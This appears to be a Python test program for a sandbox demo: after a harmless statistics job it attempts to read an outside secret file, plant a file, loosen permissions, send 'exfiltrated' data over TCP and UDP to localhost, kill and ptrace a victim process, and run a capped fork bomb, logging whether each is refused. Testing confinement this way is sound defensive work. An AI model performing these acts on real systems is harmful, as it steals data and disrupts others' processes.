"""A program from somewhere else: it does a useful job, and then tries what it should not.

Every act prints one line "ok NAME ..." or "refused NAME: reason"; run-demo compares them with what
really happened outside.
"""

import ctypes
import json
import os
import signal
import socket
import statistics
import sys
import time

OUTSIDE, VICTIM, PORT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])


def attempt(name, act):
    try:
        print(f"ok {name} {act()}", flush=True)
    except OSError as error:
        print(f"refused {name}: {error.strerror}", flush=True)


def useful_job():
    with open("measurements.csv", encoding="ascii") as source:
        rows = [line.split(",") for line in source.read().splitlines()[1:]]
    values = [float(value) for _, value in rows]
    report = {"count": len(values), "mean": round(statistics.mean(values), 3),
              "stdev": round(statistics.stdev(values), 3)}
    with open("report.json", "w", encoding="ascii") as target:
        json.dump(report, target)
    os.chmod("report.json", 0o640)
    return json.dumps(report)


def read_secret():
    with open(os.path.join(OUTSIDE, "secret.txt"), encoding="ascii") as secret:
        return secret.read().strip()


def write_outside():
    with open(os.path.join(OUTSIDE, "planted.txt"), "w", encoding="ascii") as target:
        return target.write("I was here\n")


def change_mode():
    os.chmod(os.path.join(OUTSIDE, "secret.txt"), 0o666)
    return "mode changed"


def connect_out():
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as link:
        link.sendall(b"exfiltrated\n")
    return "connected"


def udp_out():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        return link.sendto(b"exfiltrated", ("127.0.0.1", PORT))


def kill_victim():
    os.kill(VICTIM, signal.SIGKILL)
    return "killed"


def trace_victim():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, VICTIM, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "attached"


def fork_bomb():
    children = 0
    try:
        while children < 200:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
    except OSError as error:
        raise OSError(error.errno, f"{error.strerror} after {children} children") from None
    return f"{children} children"


attempt("useful-job", useful_job)
attempt("read-secret", read_secret)
attempt("write-outside", write_outside)
attempt("change-mode", change_mode)
attempt("connect", connect_out)
attempt("udp", udp_out)
attempt("kill-victim", kill_victim)
attempt("trace-victim", trace_victim)
attempt("fork-bomb", fork_bomb)
